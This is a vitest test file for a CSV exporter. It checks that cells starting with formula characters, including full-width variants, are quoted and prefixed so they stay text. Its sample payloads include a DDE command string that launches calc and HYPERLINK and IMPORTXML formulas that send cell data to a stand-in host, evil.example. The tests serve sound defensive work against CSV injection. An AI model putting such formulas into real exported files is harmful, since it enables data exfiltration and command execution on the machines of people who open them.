import { expect, test } from 'vitest';
import { CSV_DIALECTS, toCsv } from '../../../src/shared/csv.ts';

/** Characters that begin a formula in a spreadsheet, in every spelling that reaches one (OWASP "CSV injection"). */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];
const FORMULAS = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://evil.example?"&A1)',
  'IMPORTXML("https://evil.example","//a")',
];

/** Readers split a line at these, whatever the file says. */
const SEPARATORS = [',', ';', '\t', '|', '\n', '"'];

test('40 formulas leave as text, in any column, and each row keeps its cells (A9)', () => {
  const cells = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
  expect(cells).toHaveLength(40);
  for (const dialect of CSV_DIALECTS)
    for (const cell of cells) {
      const quoted = `"'${cell.replaceAll('"', '""')}"`;
      const row = (...written: string[]): string => `${written.join(dialect === 'comma' ? ';' : ',')}\r\n`;
      expect(
        toCsv(
          dialect,
          [cell, 'b'],
          [
            ['a', cell],
            [cell, 'b'],
          ],
        ),
      ).toBe(`\uFEFF${row(quoted, '"b"')}${row('"a"', quoted)}${row(quoted, '"b"')}`);
    }
});

test('a formula inside a text stays a text for a reader that splits elsewhere (A9)', () => {
  for (const separator of SEPARATORS)
    for (const start of STARTS.filter((one) => /\S/.test(one))) {
      const csv = toCsv('point', ['Note'], [[`Table 4${separator}${start}1+1`]]);
      for (const other of SEPARATORS)
        for (const part of csv.split(other)) expect(part.startsWith(start), JSON.stringify(part)).toBe(false);
    }
});
